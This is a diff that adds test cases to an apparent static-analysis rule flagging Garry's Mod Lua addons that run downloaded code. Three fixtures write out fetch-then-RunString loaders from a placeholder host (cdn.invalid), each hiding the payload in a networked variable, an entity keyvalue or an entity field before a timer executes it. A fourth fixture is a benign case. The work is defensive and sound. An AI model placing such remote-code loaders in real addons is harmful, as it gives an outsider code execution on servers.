@@ -278,4 +278,66 @@ describe('runstring', () => {
     });
     expect(findings).toEqual([]);
   });
+  it('a download kept in a networked variable, run later by a timer', () => {
+    // The timer is registered first: it reads the variable before the download is stored.
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'timer.Create("cfgapply", 30, 0, function()',
+        '  local c = GetGlobalString("cfg_blob", "")',
+        '  if c ~= "" then RunString(c, "cfg") end',
+        'end)',
+        'hook.Add("Initialize", "cfgsync", function()',
+        '  http.Fetch("https://cdn.invalid/cfg.txt", function(body) SetGlobalString("cfg_blob", body) end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a download parked in an entity keyvalue, run later by a timer', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'hook.Add("InitPostEntity", "cfgsync", function()',
+        '  local holder = ents.Create("info_target")',
+        '  holder:Spawn()',
+        '  http.Fetch("https://cdn.invalid/cfg.txt", function(body) holder:SetKeyValue("CfgData", body) end)',
+        '  timer.Create("cfgapply", 30, 0, function()',
+        '    local kv = holder:GetKeyValues()',
+        '    if kv.cfgdata then RunString(kv.cfgdata, "cfg") end',
+        '  end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a download parked in a field of an entity the addon made', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'hook.Add("InitPostEntity", "cfgsync", function()',
+        '  local holder = ents.Create("info_target")',
+        '  http.Fetch("https://cdn.invalid/cfg.txt", function(body) holder.cfgdata = body end)',
+        '  timer.Create("cfgapply", 30, 0, function()',
+        '    if holder.cfgdata then RunString(holder.cfgdata, "cfg") end',
+        '  end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a title a player sets kept in a networked variable and shown in chat (benign)', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'util.AddNetworkString("set_title")',
+        'net.Receive("set_title", function(len, ply)',
+        '  ply:SetNWString("title", string.sub(net.ReadString(), 1, 32))',
+        'end)',
+        'hook.Add("PlayerSay", "titles", function(ply, text)',
+        '  if text == "!title" then ply:ChatPrint("Your title: " .. ply:GetNWString("title", "none")) end',
+        'end)',
+        // Another variable, holding the addon's own code: the title's taint stays with its key.
+        'SetGlobalString("motd_code", "print(\'welcome\')")',
+        'timer.Create("motd", 60, 0, function() RunString(GetGlobalString("motd_code", ""), "motd") end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
 });
